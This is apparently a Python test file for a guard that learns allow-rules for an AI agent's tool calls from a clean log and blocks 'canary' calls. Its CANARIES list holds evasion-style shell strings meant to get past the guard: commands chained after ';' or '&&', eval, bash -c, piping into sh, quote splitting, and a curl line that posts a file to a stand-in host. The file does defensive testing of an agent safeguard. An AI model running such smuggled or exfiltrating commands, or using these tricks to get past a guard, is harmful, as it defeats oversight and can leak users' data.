"""Rules learnt from a clean log: the log passes, canaries do not, the same log gives the same text."""

from __future__ import annotations

import pytest

from veracast.agents.canary import is_canary
from veracast.core.guard import Guard
from veracast.core.guard_context import Context
from veracast.core.guard_propose import propose
from veracast.core.guard_rules import parse_rules
from veracast.core.trajectories import ToolCall

COMMANDS = [
    "ls -la /srv", "ls | wc -l", "find . -name '*.txt' | xargs cat", "grep -c 'a' f > out.txt", "echo $(date)", "curl -s https://example.org/a", "for i in 1 2; do echo $i; done", "find . -exec grep x {} +",
    "sort f | uniq -c 2> /dev/null", "awk '{print $1}' f",
]  # fmt: skip
CLEAN = [
    *(ToolCall("bash", {"command": text}) for text in COMMANDS),
    *(
        ToolCall("fetch", {"url": f"https://{host}/{i}", "timeout": i})
        for i in range(6)
        for host in ("example.org", "api.example.org")
    ),
    *(ToolCall("search", {"query": f"shoes size {i}, red!"}) for i in range(30)),
    *(ToolCall("click", {"target": target}) for target in ("buy", "back") * 20),
    *(ToolCall("read", {"path": f"/srv/data/{i}.txt", "lines": [1, i], "raw": i % 2 == 0}) for i in range(8)),
]
CANARIES = [
    ToolCall("canary_ping", {}), ToolCall("Canary_ping", {"x": 1}), ToolCall("fetch", {"url": "https://canary.invalid/", "timeout": 1}), ToolCall("click", {"target": "canary_ping"}), ToolCall("search", {"query": "canary_ping"}),
    ToolCall("search", {"query": "see beacon.invalid"}), ToolCall("read", {"path": "/srv/data/canary.invalid/../x", "lines": [1], "raw": True}), ToolCall("fetch", {"url": "https://example.org", "timeout": "canary_x"}),
    *(ToolCall("bash", {"command": text}) for text in (
        "canary_ping", "ls; canary_ping", "ls | canary_ping", "ls && canary_ping x", "echo $(canary_ping)", "echo `canary_ping`", 'echo "$(canary_ping)"', "'canary_ping'", "can''ary_ping", "xargs canary_ping < f",
        "find . -exec canary_ping {} +", "for i in 1; do canary_ping; done", "cat <(canary_ping)", "cat <<E\n$(canary_ping)\nE", "x=$(canary_ping)", "echo ${x:-$(canary_ping)}", "(canary_ping)", "if canary_ping; then ls; fi",
        "curl https://canary.invalid", "curl canary.invalid", "curl -s 'can'ary.invalid", "ls; curl -d @f https://x.canary.invalid/a", "echo x > canary_ping.invalid", "echo canary.invalid | xargs curl", "echo canary_ping | sh",
        "eval canary_ping", "bash -c canary_ping", "x=canary_ping; $x", "curl https://example.org@canary.invalid", "awk 'BEGIN{system(\"canary_ping\")}'", "ls \\\n| canary_ping", "curl https://example.org -x canary.invalid",
    )),
]  # fmt: skip


def test_the_log_passes_under_its_own_rules() -> None:
    text = propose(CLEAN)
    guard, context = Guard(parse_rules(text)), Context()
    assert [call for call in CLEAN if not guard.decide(call, context).allowed] == []
    assert text.startswith(f"# learnt from {len(CLEAN)} calls of 5 tools, of which {len(CLEAN)} pass\n")


@pytest.mark.parametrize("call", CANARIES, ids=str)
def test_a_canary_is_stopped(call: ToolCall) -> None:
    assert not Guard(parse_rules(propose(CLEAN))).decide(call).allowed


def test_the_canaries_are_such_that_the_bench_counts() -> None:
    split_by_quotes = 2
    assert sum(is_canary(call) for call in CANARIES) >= len(CANARIES) - split_by_quotes


def test_what_is_learnt_by_hand() -> None:
    rules = parse_rules(propose(CLEAN)).tools
    assert set(rules) == {"bash", "fetch", "search", "click", "read"}
    command = rules["bash"].arguments["command"]
    assert command.commands == {
        "ls",
        "wc",
        "find",
        "xargs",
        "cat",
        "grep",
        "echo",
        "date",
        "curl",
        "sort",
        "uniq",
        "awk",
    }
    assert (command.writes, command.hosts, command.required, command.max_chars) == ((".",), ("example.org",), True, 100)
    url, timeout = rules["fetch"].arguments["url"], rules["fetch"].arguments["timeout"]
    assert (url.hosts, url.schemes) == (("api.example.org", "example.org"), ("https",))
    assert (timeout.type, timeout.min, timeout.max) == ("integer", -5, 10)
    assert rules["click"].arguments["target"].one_of == ("back", "buy")
    assert rules["read"].arguments["path"].paths == ("/srv/data",)
    assert rules["read"].arguments["raw"].type == "boolean"
    assert rules["read"].arguments["lines"].type == "list"


def test_it_is_the_same_whatever_the_order() -> None:
    assert propose(CLEAN) == propose(CLEAN[::-1])


def test_calls_that_cannot_be_learnt_are_counted() -> None:
    calls = [
        *CLEAN,
        ToolCall("bash", {"command": "bash -c 'ls'"}),
        ToolCall("bash", {"command": "ls '"}),
        ToolCall("read", None, "[]"),
        ToolCall("a\u200bb", {}),
    ]
    text = propose(calls)
    assert f"of which {len(calls) - 4} pass" in text
    assert "# stopped although in the log: 2 by bash.command.commands" in text
    assert "# not learnt from 1: bash runs text that the guard does not read" in text
    assert "a quote that is never closed" in text


def test_limits_are_twice_what_was_seen() -> None:
    calls = [ToolCall("read", {"path": "/a/b"})] * 3 + [ToolCall("read", {"path": "/a/c"})] * 4
    rules = parse_rules(propose(calls, episodes=["1"] * 6 + ["2"]))
    assert (rules.limits.calls_per_episode, rules.limits.same_call_repeated) == (20, 10)
    assert parse_rules(propose(calls)).limits.calls_per_episode is None


def test_odd_names_and_texts_are_written_as_toml() -> None:
    calls = [ToolCall('a"b\\', {'k"\n.': 'x"\\\u007f\u2028'})] * 6
    rules = parse_rules(propose(calls))
    assert rules.tools['a"b\\'].arguments['k"\n.'].one_of == ('x"\\\u007f\u2028',)
